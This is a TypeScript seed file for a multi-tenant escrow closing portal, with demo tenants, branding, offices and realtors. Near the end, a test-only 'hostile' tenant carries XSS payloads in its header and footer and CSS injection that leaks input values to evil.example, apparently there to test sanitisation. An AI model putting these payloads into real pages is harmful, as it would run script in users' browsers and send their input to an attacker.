/**
 * The demo tenants as a visitor meets them: groups, tenants, branding (inline SVG images), offices
 * and realtors, and the test-only hostile tenant whose branding attacks the shell.
 */
import type { branding, office, realtor, tenant, tenantGroup } from '../../platform/database/schema';
import { MODULES } from '@portal/shared/constants';
import { IDS, type Row } from './ids';

/** Images are inline SVG data URLs, so the seed works with no asset files (CSP img-src needs `data:`). */
function svgDataUrl(svg: string): string {
  return `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
}

export function monogram(letters: string, background: string, size = 64): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 64 64">` +
      `<rect width="64" height="64" rx="12" fill="${background}"/>` +
      `<text x="32" y="41" font-family="Arial, sans-serif" font-size="26" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `</svg>`,
  );
}

function wordmark(letters: string, name: string, mark: string, text: string, fontFamily: string): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="260" height="48" viewBox="0 0 260 48">` +
      `<rect width="48" height="48" rx="10" fill="${mark}"/>` +
      `<text x="24" y="32" font-family="${fontFamily}" font-size="22" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `<text x="60" y="31" font-family="${fontFamily}" font-size="18" font-weight="700" fill="${text}">${name}</text>` +
      `</svg>`,
  );
}

export const tenantGroups: Row<typeof tenantGroup>[] = [
  {
    id: IDS.groups.partners,
    groupName: 'Closing Partners Network',
    logoURL: monogram('CP', '#1B2A4A'),
    groupTagline: 'Independent title and escrow, together',
    bannerColor: '#1B2A4A',
  },
  {
    id: IDS.groups.acme,
    groupName: 'Acme Holdings',
    logoURL: monogram('AH', '#7A1F2B'),
    groupTagline: 'Escrow since 1952',
    bannerColor: '#7A1F2B',
  },
];

export const tenants: Row<typeof tenant>[] = [
  {
    id: IDS.tenants.demo,
    tenantGroupId: IDS.groups.partners,
    name: 'Demo Title & Escrow',
    description: 'Title and escrow services for residential closings.',
    identifier: 'demo',
    type: 'title',
    address1: '100 Main Street',
    address2: 'Suite 200',
    city: 'Springfield',
    state: 'IL',
    zipcode: '62701',
    supportEmail: 'support@demo-title.example',
    pocPhone: '(555) 010-2000',
    routingType: 'office',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.acme,
    tenantGroupId: IDS.groups.acme,
    name: 'Acme Escrow Co.',
    description: 'Escrow for buyers and sellers across Texas.',
    identifier: 'acme',
    type: 'escrow',
    address1: '2500 Commerce Boulevard',
    address2: null,
    city: 'Austin',
    state: 'TX',
    zipcode: '78701',
    supportEmail: 'help@acme-escrow.example',
    pocPhone: '(555) 010-3000',
    routingType: 'agent',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.summit,
    tenantGroupId: IDS.groups.partners,
    name: 'Summit Closing Services',
    description: 'Closings in the Rocky Mountain region.',
    identifier: 'summit',
    type: 'title',
    address1: '77 Summit Avenue',
    address2: 'Floor 3',
    city: 'Denver',
    state: 'CO',
    zipcode: '80202',
    supportEmail: 'closings@summit-closing.example',
    pocPhone: '(555) 010-4000',
    routingType: 'other',
    // No message center for this tenant; it also has no branding row (the default applies).
    enabledModules: ['onboarding', 'banking', 'transfers'],
    // Above $5,000.00 a start asks for a fresh passkey or text code (step-up, ADR 0096).
    stepUpAboveCents: 500_000,
  },
];

export const brandings: Row<typeof branding>[] = [
  {
    id: IDS.brandings.default,
    tenantId: null,
    isDefault: true,
    active: true,
    description: 'Closing Portal default branding',
    logoURL: wordmark('CP', 'Closing Portal', '#2563EB', '#1F2937', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('CP', '#2563EB', 32),
    backgroundImageURL: null,
    header: null,
    footer: '<div class="brand-footer">Closing Portal</div>',
    registerText: 'Send your closing funds securely from your own bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1F2937',
    fontWeight: '400',
    backgroundColor: '#F5F7FA',
    linkColor: '#2563EB',
    buttonColor: '#2563EB',
    accentColor: '#10B981',
    customCSS: null,
  },
  {
    id: IDS.brandings.demo,
    tenantId: IDS.tenants.demo,
    active: true,
    description: 'Demo Title & Escrow',
    logoURL: wordmark('D', 'Demo Title &amp; Escrow', '#0F8B8D', '#1B2A4A', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('D', '#0F8B8D', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Demo Title &amp; Escrow</strong></div>',
    footer:
      '<div class="brand-footer">Demo Title &amp; Escrow · 100 Main Street, Suite 200, Springfield, IL 62701 · (555) 010-2000</div>',
    registerText: 'Send your earnest money to Demo Title & Escrow securely, straight from your bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1B2A4A',
    fontWeight: '400',
    backgroundColor: '#F4F8FA',
    linkColor: '#0F8B8D',
    buttonColor: '#0F8B8D',
    accentColor: '#1B2A4A',
    customCSS: '.brand-header { letter-spacing: 0.02em; }',
  },
  {
    id: IDS.brandings.acme,
    tenantId: IDS.tenants.acme,
    active: true,
    description: 'Acme Escrow Co.',
    logoURL: wordmark('A', 'Acme Escrow Co.', '#7A1F2B', '#3B0D14', 'Georgia, serif'),
    faviconImgURL: monogram('A', '#7A1F2B', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Acme Escrow Co.</strong> <em>Closing made simple</em></div>',
    footer: '<div class="brand-footer">Acme Escrow Co. · 2500 Commerce Boulevard, Austin, TX 78701</div>',
    registerText: 'Pay your escrow deposit to Acme Escrow Co. in minutes.',
    registerButtonText: 'Get Started',
    fontFamily: 'Georgia',
    fontSize: '17px',
    fontColor: '#3B0D14',
    fontWeight: '400',
    backgroundColor: '#FBF7F4',
    linkColor: '#A4343F',
    buttonColor: '#7A1F2B',
    accentColor: '#D4A373',
    customCSS: '.brand-header em { font-style: italic; }',
  },
  {
    // A retired branding, so `active: true` filters have something to filter out.
    id: IDS.brandings.acmeRetired,
    tenantId: IDS.tenants.acme,
    active: false,
    description: 'Acme Escrow Co. (2019, retired)',
    fontFamily: 'Times New Roman',
    buttonColor: '#000000',
  },
];

const demoOffice = (id: string, title: string, city: string, active = true): Row<typeof office> => ({
  id,
  tenantId: IDS.tenants.demo,
  title,
  city,
  state: 'IL',
  active,
});

export const offices: Row<typeof office>[] = [
  demoOffice(IDS.offices.springfield, 'Springfield Downtown', 'Springfield'),
  demoOffice(IDS.offices.chicago, 'Chicago Lakeside', 'Chicago'),
  demoOffice(IDS.offices.peoria, 'Peoria Riverfront', 'Peoria'),
  demoOffice(IDS.offices.decatur, 'Decatur (closed)', 'Decatur', false),
];

const acmeBrokerage = {
  name: 'Acme Realty Group',
  websiteURL: 'https://acme-realty.example',
  officePhone: '(555) 010-3100',
};

export const realtors: Row<typeof realtor>[] = [
  {
    id: IDS.realtors.jane,
    tenantId: IDS.tenants.acme,
    firstName: 'Jane',
    lastName: 'Realtor',
    displayName: 'Jane Realtor',
    displayDescription: 'Helping Austin families buy and sell homes for 12 years.',
    email: 'jane@acme-realty.example',
    mobilePhone: '+15550103001',
    landingPageURI: 'jane-realtor',
    headshotImageURL: monogram('JR', '#A4343F', 128),
    licenses: [{ state: 'TX', licenseNumber: 'TX-0654321' }],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.marco,
    tenantId: IDS.tenants.acme,
    firstName: 'Marco',
    lastName: 'Diaz',
    displayName: 'Marco Diaz',
    displayDescription: 'First-time buyers and investment properties in Central Texas.',
    email: 'marco@acme-realty.example',
    mobilePhone: '+15550103002',
    landingPageURI: 'marco-diaz',
    headshotImageURL: monogram('MD', '#D4A373', 128),
    licenses: [
      { state: 'TX', licenseNumber: 'TX-0712345' },
      { state: 'OK', licenseNumber: 'OK-181818' },
    ],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.retired,
    tenantId: IDS.tenants.acme,
    firstName: 'Pat',
    lastName: 'Former',
    displayName: 'Pat Former',
    landingPageURI: 'pat-former',
    licenses: [],
    active: false,
  },
];

/** Test-only tenant whose branding attacks the shell; see seed({ testFixtures: true }). */
export const hostileTenant: Row<typeof tenant> = {
  id: IDS.tenants.hostile,
  name: 'Hostile Test Tenant',
  identifier: 'hostile',
  routingType: 'other',
  supportEmail: 'support@hostile.example',
  pocPhone: '(555) 010-9999',
  enabledModules: [...MODULES],
};

export const HOSTILE_HEADER =
  '<img src="x" onerror="window.__xss=\'img\'"><script>window.__xss=\'script\'</script><p>Hostile header</p>';
export const HOSTILE_CSS =
  '@import url(https://evil.example/leak.css); input[value^="a"] { background: url(https://evil.example/a) }';

export const hostileBranding: Row<typeof branding> = {
  id: IDS.brandings.hostile,
  tenantId: IDS.tenants.hostile,
  active: true,
  description: 'Hostile branding (test fixture)',
  header: HOSTILE_HEADER,
  footer:
    '<p style="position:fixed;inset:0" onclick="window.__xss=\'footer\'">Hostile footer</p><style>body{display:none}</style>',
  customCSS: HOSTILE_CSS,
  fontFamily: 'Poppins',
  buttonColor: '#333333',
};
